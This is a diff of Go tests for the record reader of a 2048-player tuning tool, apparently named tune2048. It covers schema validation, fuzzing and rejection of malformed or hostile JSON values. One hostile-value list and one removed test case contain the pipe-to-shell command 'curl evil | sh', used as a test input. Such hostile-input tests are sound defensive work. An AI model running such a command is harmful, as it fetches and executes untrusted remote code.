@@ -13,6 +13,7 @@ import (
 	"testing"
 
 	"github.com/go-json-experiment/json"
+	"github.com/go-json-experiment/json/jsontext"
 	"github.com/santhosh-tekuri/jsonschema/v6"
 
 	"tune2048/configs/config"
@@ -59,9 +60,8 @@ func written(t testing.TB, r *Record) []byte {
 // startOf is the record of a config's start weights, which have played nothing.
 func startOf(t testing.TB, c *config.Config) *Record {
 	t.Helper()
-	r, err := derive(c, string(c.YAML()), nil, c.Heuristic.Dead)
-	must(t, err)
-	r.HeldOut = []HeldOut{}
+	r := &Record{Config: string(c.YAML()), ConfigHash: c.Hash, HeldOut: []HeldOut{}}
+	must(t, r.derive(c, nil, c.Heuristic.Dead))
 	return r
 }
 
@@ -119,8 +119,9 @@ func validate(t testing.TB, schema *jsonschema.Schema, data []byte) error {
 }
 
 // TestSchema holds schema.json against the records of all shipped families and of every kind of
-// feature, whole and with any one key missing or another one added. Records of older programs have
-// a games_hash, and it is kept.
+// feature, whole and with any one key missing or another one added. Read asks for the config, the
+// weights and the number of held-out games alone, and makes the rest anew. Records of older programs
+// have a games_hash, and it is kept.
 func TestSchema(t *testing.T) {
 	schema := compileSchema(t)
 	golden, err := os.ReadFile("testdata/fingerprint.json")
@@ -132,6 +133,9 @@ func TestSchema(t *testing.T) {
 		must(t, err)
 		all[name] = written(t, startOf(t, c))
 	}
+	bot, err := config.Parse([]byte(`player: {command: ["true"], answers: moves, weights: {a: {min: 1, max: 3}}}`), "bot.yaml")
+	must(t, err)
+	all["a bot"] = written(t, startOf(t, bot))
 	for name, data := range all {
 		if err := validate(t, schema, data); err != nil {
 			t.Errorf("%s: %v", name, err)
@@ -140,19 +144,60 @@ func TestSchema(t *testing.T) {
 			t.Errorf("%s: %v, or it is written otherwise", name, err)
 		}
 	}
+	read := regexp.MustCompile(`^(format|version|config|dead|weights|weights\..*|weights with one more|held_out\[\]\.games)$`)
 	for _, name := range []string{"older", "every kind"} {
 		damages(t, all[name], func(what string, data []byte) {
-			_, unread := Read(data)
-			if what == "held_out_salt" || what == "held_out[].games_hash" { // some records have none
-				if err := validate(t, schema, data); unread != nil || err != nil {
-					t.Errorf("%s: the schema says %v, Read says %v", what, err, unread)
-				}
-			} else if invalid := validate(t, schema, data); unread == nil || invalid == nil && what != "weights.empty" &&
-				!strings.Contains(what, ".numbers.") && !strings.HasSuffix(what, ".above") {
-				t.Errorf("%s: the schema says %v, Read says %v", what, invalid, unread)
+			optional := what == "held_out_salt" || what == "held_out[].games_hash" // some records have none
+			free := what == "weights.empty" || strings.Contains(what, ".numbers.") || strings.HasSuffix(what, ".above")
+			if err := validate(t, schema, data); (err == nil) != (optional || free) {
+				t.Errorf("%s: the schema says %v", what, err)
+			}
+			if r, err := Read(data); (err != nil) != read.MatchString(what) {
+				t.Errorf("%s: Read says %v", what, err)
+			} else if derived := regexp.MustCompile(`^(heuristic|game|search|objective|verify)\b|^ with one more$`); derived.MatchString(what) && canonical(t, written(t, r)) != canonical(t, all[name]) {
+				t.Errorf("%s: it is another record", what)
 			}
 		})
 	}
+}
+
+func canonical(t *testing.T, data jsontext.Value) string {
+	t.Helper()
+	data = data.Clone()
+	must(t, data.Canonicalize())
+	return string(data)
+}
+
+// TestSchemaDescribesFields: each field of a record has a description of its own, or that of its type.
+func TestSchemaDescribesFields(t *testing.T) {
+	data, err := os.ReadFile("schema.json")
+	must(t, err)
+	var root map[string]any
+	must(t, json.Unmarshal(data, &root))
+	types := root["$defs"].(map[string]any)
+	var walk func(v any)
+	walk = func(v any) {
+		switch v := v.(type) {
+		case []any:
+			for _, x := range v {
+				walk(x)
+			}
+		case map[string]any:
+			properties, _ := v["properties"].(map[string]any)
+			for name, field := range properties {
+				field := field.(map[string]any)
+				of, _ := field["$ref"].(string)
+				typed, _ := types[strings.TrimPrefix(of, "#/$defs/")].(map[string]any)
+				if field["description"] == nil && typed["description"] == nil {
+					t.Errorf("%s: there is no description", name)
+				}
+			}
+			for _, x := range v {
+				walk(x)
+			}
+		}
+	}
+	walk(root)
 }
 
 // everyKind is a config with a feature of each kind.
@@ -229,8 +274,6 @@ func TestReadProblems(t *testing.T) {
 		}
 		return "\n  \"" + key + "\": " + old
 	}
-	heldOut := regexp.MustCompile(`"games": 4(?s:.*?)"scores": \[[0-9, ]+\]`).FindAllString(whole, 1)
-	noScores := regexp.MustCompile(`\[[0-9, ]+\]$`).ReplaceAllString(heldOut[0], "null")
 	for name, test := range map[string]struct{ old, changed, want string }{
 		"newer":    {value("version", "1"), "\n  \"version\": 2", "version: want 1, got 2: it was written by a newer version of tune"},
 		"twice":    {`"weights": {`, `"weights": {"empty": 1,`, `: jsontext: duplicate object member name "empty" within "/weights"`},
@@ -239,19 +282,9 @@ func TestReadProblems(t *testing.T) {
 		"huge":     {`"weights": {`, `"weights": {"x": 1e999,`, `within "/weights/x": value out of range`},
 		"extra":    {`"weights": {`, `"weights": {"emty": 1,`, "weights: no weight is called emty; did you mean empty?"},
 		"missing":  {`"empty": `, `"emptx": `, "no weight is called emptx"},
-		"other":    {`"feature": "merges", "name": "merges", "weight": `, `"feature": "merges", "name": "merges", "weight": 1`, `as config and weights say, got `},
-		"unknown":  {`"run": "`, `"ran": 1, "run": "`, `unknown object member name "ran"`},
 		"no list":  {value("held_out", "["), "\n  \"held_out\": 1, \"x\": [", `unmarshal JSON number into Go []export.HeldOut within "/held_out"`},
 		"control":  {`"run": "`, "\"run\": \"\x1b", `within "/run"`},
-		"depth":    {`"search": "depth 3"`, `"search": "depth three"`, "held_out[0].search: want one that the config validates, got \"depth three\""},
-		"games":    {`"games": 4`, `"games": 0`, "held_out[0].games: want 1 to 4000000, got 0"},
-		"too many": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 1000000000000000`, 1), "held_out[0].games: want 1 to 4000000, got 1000000000000000"},
-		"one over": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 4000001`, 1), "held_out[0].games: want 1 to 4000000, got 4000001"},
-		"again":    {`"search": "depth by distinct -7 least 1"`, `"search": "depth 3"`, `held_out[1].search: "depth 3" is given twice`},
-		"negative": {`"scores": [`, `"scores": [-`, "held_out[0].scores: want at least 0, got -31300"},
-		"nobody":   {value("candidate", "0"), "\n  \"candidate\": -1", "candidate: want 0 to 9999999, got -1"},
-		"verify":   {value("verify", `"`), "\n  \"verify\": \"curl evil | sh", `verify: want "tune verify FILE.json"`},
-		"scores":   {`"scores": [`, `"scores": [7, `, "held_out[0].scores: want the scores of 4 games"},
+		"games":    {`"games": 4`, `"games": 0`, "held_out[0].games: want at least 1, got 0"},
 		"no dead":  {value("dead", `"worst"`), "\n  \"dead\": null", `dead: want "worst" or a number, got nothing`},
 		"config":   {value("config", `"`), "\n  \"config\": \"\\u0007: ", "config:"},
 		"not ours": {`"format": "tune2048 player"`, `"format": "png"`, `format: want "tune2048 player", which tune export writes, got "png"`},
@@ -286,9 +319,9 @@ func TestReadProblems(t *testing.T) {
 	}
 }
 
-// readOrRefuse reads what may be a record. An error has no control character. A record fits the
-// schema, and is read again as it is written.
-func readOrRefuse(t *testing.T, schema *jsonschema.Schema, data []byte) {
+// readOrRefuse reads what may be a record. An error has no control character. A record is read again
+// as it is written.
+func readOrRefuse(t *testing.T, data []byte) {
 	IsRecord(data)
 	r, err := Read(data)
 	if err != nil {
@@ -297,12 +330,9 @@ func readOrRefuse(t *testing.T, schema *jsonschema.Schema, data []byte) {
 		}
 		return
 	}
-	again := written(t, r)
-	if _, err := Read(again); err != nil {
-		t.Error(err)
-	}
-	if err := validate(t, schema, again); err != nil {
-		t.Errorf("%v: %s", err, data)
+	once := written(t, r)
+	if again, err := Read(once); err != nil || !bytes.Equal(written(t, again), once) {
+		t.Errorf("%v, or it is written otherwise: %s", err, once)
 	}
 }
 
@@ -319,21 +349,19 @@ func FuzzRead(f *testing.F) {
 	f.Add(golden)
 	f.Add([]byte(`{"format": "tune2048 player", "version": 1}`))
 	f.Add([]byte("{}"))
-	schema := compileSchema(f)
-	f.Fuzz(func(t *testing.T, data []byte) { readOrRefuse(t, schema, data) })
+	f.Fuzz(readOrRefuse)
 }
 
 // TestReadHostileValues puts hostile values in the place of each value of a record.
 func TestReadHostileValues(t *testing.T) {
 	golden, err := os.ReadFile("testdata/fingerprint.json")
 	must(t, err)
-	schema := compileSchema(t)
 	values := regexp.MustCompile(`: ("[^"\n]*"|[0-9.-]+|\[[^\n]*\]|null)`).FindAllSubmatchIndex(golden, -1)
 	hostile := []string{"null", "-1", "0", "1000000000000000", "1e308", "0.5", `""`, `"curl evil | sh"`, `"\u001b[2J"`, "[]", "[-1, 1e300]", "{}"}
 	for i, at := range values {
 		for k, value := range hostile {
 			if (i+k)%3 == 0 { // a third of all pairs is enough for every run of the tests
-				readOrRefuse(t, schema, slices.Concat(golden[:at[2]], []byte(value), golden[at[3]:]))
+				readOrRefuse(t, slices.Concat(golden[:at[2]], []byte(value), golden[at[3]:]))
 			}
 		}
 	}
